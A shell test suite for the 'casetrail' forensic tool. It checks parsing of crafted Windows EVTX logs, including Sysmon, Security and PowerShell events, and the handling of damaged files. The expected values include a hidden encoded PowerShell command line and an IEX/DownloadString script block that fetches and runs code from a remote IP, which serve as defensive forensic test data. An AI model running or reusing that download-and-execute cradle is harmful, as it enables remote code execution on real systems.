#!/bin/sh
# t1100-evtx.sh - ingest of EVTX logs written by tests/evtx-craft: fields,
# normalised columns, messages, script blocks, damaged and foreign files.
. "$TOP_SRCDIR/tests/t/lib.sh"

CRAFT="$TOP_BUILDDIR/tests/evtx-craft"

test_expect_success 'a crafted log is ingested with every record' '
	"$CRAFT" scenario s.evtx &&
	casetrail ingest c.db s.evtx &&
	test "$(sql c.db "SELECT count(*) FROM evtx")" -eq 9 &&
	test "$(sql c.db "SELECT count(*) FROM record WHERE type = '\''evtx'\'' AND locator LIKE '\''record %'\''")" -eq 9 &&
	test "$(sql c.db "SELECT status, parser FROM source")" = "ok|evtx"
'

test_expect_success 'System fields and the time of creation' '
	sql c.db "SELECT record_number, event_id, version, level, task, pid, tid, channel, computer, user_sid, provider_guid, keywords FROM evtx WHERE event_id = 1" >out &&
	echo "1|1|2|4|1|2000|2100|Microsoft-Windows-Sysmon/Operational|FIN-WS042|S-1-5-18|{54849625-5478-4994-A5BA-3E3B0328C30D}|0x8000000000000000" >expect &&
	test_cmp expect out &&
	sql c.db "SELECT time, ts_desc FROM timeline WHERE locator = '\''record 1'\'' ORDER BY ts" >out &&
	printf "2024-03-13T14:02:11.0000000Z|event created\n" >expect &&
	test_cmp expect out &&
	sql c.db "SELECT time, ts_desc FROM timeline WHERE locator = '\''record 8'\'' ORDER BY ts" >out &&
	printf "2024-03-13T14:02:17.0000000Z|event created\n2024-03-13T15:02:17.0000000Z|record written\n" >expect &&
	test_cmp expect out
'

test_expect_success 'Sysmon 1: fields by name and normalised columns' '
	sql c.db "SELECT json_extract(data, '\''$.Hashes'\''), image, process_id, parent_image, parent_process_id, user_name, hashes FROM evtx WHERE event_id = 1" >out &&
	echo "SHA1=0A0B,MD5=0C0D,SHA256=0E0F,IMPHASH=0102|C:\\Users\\jdoe\\AppData\\Local\\Temp\\QEUpd\\qeupdate_helper.exe|4242|C:\\Program Files (x86)\\QuillEdit\\QEUpdate.exe|4100|FIN\\jdoe|SHA1=0A0B,MD5=0C0D,SHA256=0E0F,IMPHASH=0102" >expect &&
	test_cmp expect out
'

test_expect_success 'Security 4688: hex PIDs become integers, user is DOMAIN\user' '
	sql c.db "SELECT process_id, parent_process_id, user_name, parent_image FROM evtx WHERE event_id = 4688" >out &&
	echo "6700|4242|FIN\\jdoe|C:\\Users\\jdoe\\AppData\\Local\\Temp\\QEUpd\\qeupdate_helper.exe" >expect &&
	test_cmp expect out
'

test_expect_success 'Sysmon 3 and 15: network columns, URL from Zone.Identifier' '
	test "$(sql c.db "SELECT src_ip, src_port, dst_ip, dst_port FROM evtx WHERE event_id = 3")" = "10.0.0.42|49712|5.39.218.205|80" &&
	test "$(sql c.db "SELECT url FROM evtx WHERE event_id = 15")" = "http://5.39.218.205/logo.png" &&
	test "$(sql c.db "SELECT url FROM evtx WHERE event_id = 59")" = "http://203.0.113.10/patch.exe"
'

test_expect_success 'PowerShell 400: HostApplication split out of the positional block' '
	test "$(sql c.db "SELECT host_application FROM evtx WHERE event_id = 400")" = "powershell.exe -NoP -NonI -W Hidden -Enc SQBFAFgA" &&
	test "$(sql c.db "SELECT json_extract(data, '\''$.Data[0]'\'') FROM evtx WHERE event_id = 400")" = "" &&
	test "$(sql c.db "SELECT json_extract(data, '\''$.\"Data[0]\"'\'') FROM evtx WHERE event_id = 400")" = "Available" &&
	test "$(sql c.db "SELECT json_extract(data, '\''$.EngineVersion'\'') FROM evtx WHERE event_id = 400")" = "5.1.19041.1"
'

test_expect_success 'a 4104 script block is reassembled in MessageNumber order' '
	sql c.db "SELECT parts_total, parts_seen, text FROM script_block" >out &&
	echo "2|2|IEX (New-Object Net.WebClient).DownloadString('\''http://176.53.118.131/logo.png'\'')" >expect &&
	test_cmp expect out &&
	test "$(sql c.db "SELECT r.locator FROM script_block s JOIN record r ON r.id = s.first_record_id")" = "record 5"
'

test_expect_success 'one-line messages, mapped and generic' '
	test "$(sql c.db "SELECT summary FROM record WHERE locator = '\''record 1'\''")" = "Process created: \"C:\\Users\\jdoe\\AppData\\Local\\Temp\\QEUpd\\qeupdate_helper.exe\" /silent by QEUpdate.exe" &&
	test "$(sql c.db "SELECT summary FROM record WHERE locator = '\''record 9'\''")" = "Unmapped-Provider 777: Alpha=one, Beta=two"
'

test_expect_success 'every data column is valid JSON' '
	test "$(sql c.db "SELECT count(*) FROM evtx WHERE json_valid(data)")" -eq 9
'

test_expect_success 'record offsets point at the record signature' '
	off=$(sql c.db "SELECT offset FROM record WHERE locator = '\''record 2'\''") &&
	test "$(od -An -tx1 -j "$off" -N4 s.evtx | tr -d " ")" = "2a2a0000"
'

test_expect_success 'one job or two give the same rows' '
	casetrail ingest -j 1 c1.db s.evtx &&
	sql c1.db "SELECT r.locator, r.summary, e.data FROM record r JOIN evtx e ON e.record_id = r.id ORDER BY r.locator" >one &&
	sql c.db "SELECT r.locator, r.summary, e.data FROM record r JOIN evtx e ON e.record_id = r.id ORDER BY r.locator" >two &&
	test_cmp one two
'

test_expect_success 'an empty file and a text file named .evtx are refused clearly' '
	: >empty.evtx &&
	test_must_fail casetrail ingest e.db empty.evtx 2>err &&
	test_grep "empty" err &&
	echo "hello" >text.evtx &&
	test_must_fail casetrail ingest e.db text.evtx 2>err &&
	test_grep "not an EVTX event log" err
'

test_expect_success 'an empty folder, and a log whose only chunk is damaged: no records, clean exit' '
	mkdir -p none &&
	casetrail ingest -q n.db none &&
	test "$(sql n.db "SELECT count(*) FROM source")" -eq 0 &&
	cp s.evtx c0.evtx && chmod u+w c0.evtx &&
	printf "XXXXXXX" | dd of=c0.evtx bs=1 seek=4096 conv=notrunc 2>/dev/null &&
	test_exit_code 1 casetrail ingest c0.db c0.evtx 2>err &&
	test_grep "chunk 0: bad chunk signature" err &&
	test "$(sql c0.db "SELECT status FROM source")" = partial
'

test_expect_success 'a truncated log: the complete records, a warning with offset' '
	"$CRAFT" truncate s.evtx t.evtx 9000 &&
	casetrail ingest t.db t.evtx 2>err || true &&
	test "$(sql t.db "SELECT count(*) FROM evtx")" -ge 1 &&
	test "$(sql t.db "SELECT count(*) FROM evtx")" -lt 9 &&
	test_grep "truncated log" err &&
	test "$(sql t.db "SELECT offset FROM warning WHERE message LIKE '\''%truncated%'\''")" -eq 4096
'

test_expect_success 'bit-flipped logs: no crash, damage reported with offsets' '
	for seed in 1 2 3 4 5 6 7 8; do
		"$CRAFT" flip s.evtx f$seed.evtx $seed 40 &&
		casetrail ingest f.db f$seed.evtx >/dev/null 2>&1
		rc=$?
		test $rc -le 1 || { echo "seed $seed: exit $rc"; return 1; }
	done &&
	test "$(sql f.db "SELECT count(*) FROM warning WHERE offset IS NOT NULL AND offset >= 4096")" -ge 1
'

test_expect_success 'the chunk header is damaged: the log is still read' '
	cp s.evtx d.evtx && chmod u+w d.evtx &&
	printf "XXXXXXXX" | dd of=d.evtx bs=1 seek=0 conv=notrunc 2>/dev/null &&
	casetrail ingest d.db d.evtx 2>err || true &&
	test "$(sql d.db "SELECT count(*) FROM evtx")" -eq 9 &&
	test_grep "damaged file header" err
'

test_done
